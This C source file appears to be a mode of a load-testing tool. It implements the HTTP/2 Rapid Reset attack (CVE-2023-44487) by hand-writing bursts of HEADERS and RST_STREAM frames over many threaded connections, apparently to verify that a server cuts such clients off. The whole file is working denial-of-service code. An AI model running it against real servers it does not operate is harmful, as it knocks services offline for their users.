/*
 * Rapid reset (CVE-2023-44487): HTTP/2 requests that the client resets at once, so that the client
 * has none open and the server has begun all of them. --clients connections at a time do that until
 * the server ends them, and are then opened again, until --requests were reset and --seconds are
 * over, or SIGTERM.
 *
 * Frames are written by hand, as no library would send this. Prints "ready" when the server has
 * ended the first connection, and at the end how many it has ended, and how.
 */
#include <poll.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/time.h>

#include "base/alloc.h"
#include "load.h"

enum {
    BURST = 50,  /* requests that are sent in a row, and then as many resets */
    BURSTS = 12, /* bursts of a connection without a pause: a few more than the server accepts */
    BURSTS_MAX = 1000,
    PAUSE_MS = 20,
    DEADLINE_S = 60,       /* seconds that the server has to end a connection */
    GOAWAY_ROOM = 1 << 16, /* bytes of what the server sends until then */
    FRAME_HEAD_LEN = 9,
};

enum frame { FRAME_HEADERS = 1, FRAME_RST_STREAM = 3, FRAME_SETTINGS = 4, FRAME_GOAWAY = 7 };

struct storm {
    atomic_ullong resets, ended, told; /* `told`: connections that were ended with a GOAWAY */
    atomic_bool ready;
    struct vd_buf block; /* the request's headers */
};

static void add_frame(struct vd_buf *out, enum frame type, unsigned flags, uint32_t id,
                      struct vd_slice payload)
{
    const unsigned char head[FRAME_HEAD_LEN] = {(unsigned char)(payload.n >> 16),
                                                (unsigned char)(payload.n >> 8),
                                                (unsigned char)payload.n,
                                                (unsigned char)type,
                                                (unsigned char)flags,
                                                (unsigned char)(id >> 24),
                                                (unsigned char)(id >> 16),
                                                (unsigned char)(id >> 8),
                                                (unsigned char)id};
    vd_buf_add(out, head, sizeof head);
    vd_buf_add_slice(out, payload);
}

/* Adds a header that is not put into the dynamic table (RFC 7541, 6.2.2). Only for short ones. */
static void add_header(struct vd_buf *out, const char *name, const char *value)
{
    if (strlen(name) > 126 || strlen(value) > 126)
        load_die("the header %s is too long to be written", name);
    vd_buf_add_char(out, 0);
    vd_buf_add_char(out, (char)strlen(name));
    vd_buf_add_text(out, name);
    vd_buf_add_char(out, (char)strlen(value));
    vd_buf_add_text(out, value);
}

static void write_block(struct vd_buf *block)
{
    struct vd_buf text = {0};
    add_header(block, ":method", "GET");
    add_header(block, ":scheme", load.tls ? "https" : "http");
    add_header(block, ":path", load.path);
    add_header(block, ":authority", "flood");
    vd_buf_addf(&text, "Bearer %s", load.token ? load.token : "");
    add_header(block, "authorization", vd_buf_text(&text));
    vd_buf_release(&text);
}

/* Whether a GOAWAY is among the frames that were received. */
static bool has_goaway(struct vd_slice in)
{
    while (in.n >= FRAME_HEAD_LEN) {
        const unsigned char *p = (const unsigned char *)in.p;
        size_t n = (size_t)p[0] << 16 | (size_t)p[1] << 8 | p[2];
        if (p[3] == FRAME_GOAWAY)
            return true;
        in = vd_slice_from(in, n + FRAME_HEAD_LEN < in.n ? n + FRAME_HEAD_LEN : in.n);
    }
    return false;
}

static bool send_burst(struct storm *storm, struct link *l, struct vd_buf *out, uint32_t first)
{
    enum { END_STREAM = 1, END_HEADERS = 4 };
    vd_buf_reset(out);
    for (uint32_t i = 0; i < BURST; i++)
        add_frame(out, FRAME_HEADERS, END_STREAM | END_HEADERS, first + 2 * i,
                  vd_buf_slice(&storm->block));
    if (!link_send(l, vd_buf_slice(out)))
        return false;
    vd_buf_reset(out);
    for (uint32_t i = 0; i < BURST; i++)
        add_frame(out, FRAME_RST_STREAM, 0, first + 2 * i, vd_slice("\0\0\0\10", 4));
    if (!link_send(l, vd_buf_slice(out)))
        return false;
    atomic_fetch_add(&storm->resets, BURST);
    return true;
}

/* Whether the server ends the connection within that time. */
static bool has_ended(const struct link *l, int wait_ms)
{
    struct pollfd state = {.fd = l->fd, .events = POLLRDHUP};
    return poll(&state, 1, wait_ms) != 0;
}

/* One connection, until the server has ended it. */
static void storm_once(struct storm *storm)
{
    struct link l;
    struct vd_buf out = {0}, in = {0};
    const struct timeval deadline = {.tv_sec = DEADLINE_S};
    char *room = vd_malloc(GOAWAY_ROOM);
    link_open(&l, true);
    setsockopt(l.fd, SOL_SOCKET, SO_RCVTIMEO, &deadline, sizeof deadline);
    vd_buf_add_text(&out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    add_frame(&out, FRAME_SETTINGS, 0, 0, VD_SLICE(""));
    bool going = link_send(&l, vd_buf_slice(&out));
    for (uint32_t i = 0; going && !has_ended(&l, i < BURSTS ? 0 : PAUSE_MS) && i < BURSTS_MAX; i++)
        going = send_burst(storm, &l, &out, 1 + 2 * i * BURST);
    ssize_t n;
    while ((n = link_receive(&l, room, GOAWAY_ROOM)) > 0)
        if (in.n < GOAWAY_ROOM)
            vd_buf_add(&in, room, (size_t)n);
    if (n == LINK_AGAIN)
        load_die("a client that resets and resets was borne for %d s", DEADLINE_S);
    atomic_fetch_add(&storm->ended, 1);
    atomic_fetch_add(&storm->told, has_goaway(vd_buf_slice(&in)));
    link_close(&l);
    free(room);
    vd_buf_release(&out);
    vd_buf_release(&in);
}

static void *storm_on(void *arg)
{
    struct storm *storm = arg;
    while (atomic_load(&storm->resets) < load.requests || !load_stops_within(0)) {
        storm_once(storm);
        if (!atomic_exchange(&storm->ready, true)) {
            puts("ready");
            fflush(stdout);
        }
    }
    return NULL;
}

void mode_resets(void)
{
    struct storm storm = {0};
    pthread_t *threads = vd_calloc(load.clients + 1, sizeof *threads);
    uint64_t start_ns = load_now_ns();
    load_stop_on_signal();
    write_block(&storm.block);
    for (unsigned i = 0; i < load.clients; i++)
        pthread_create(&threads[i], NULL, storm_on, &storm);
    for (unsigned i = 0; i < load.clients; i++)
        pthread_join(threads[i], NULL);
    printf("{\"mode\":\"resets\",\"clients\":%u,\"resets\":%llu,\"ended\":%llu,\"told\":%llu,"
           "\"resets_per_s\":%.0f,\"right\":true}\n",
           load.clients, atomic_load(&storm.resets), atomic_load(&storm.ended),
           atomic_load(&storm.told),
           (double)atomic_load(&storm.resets) / ((double)(load_now_ns() - start_ns) / 1e9));
    vd_buf_release(&storm.block);
    free(threads);
}
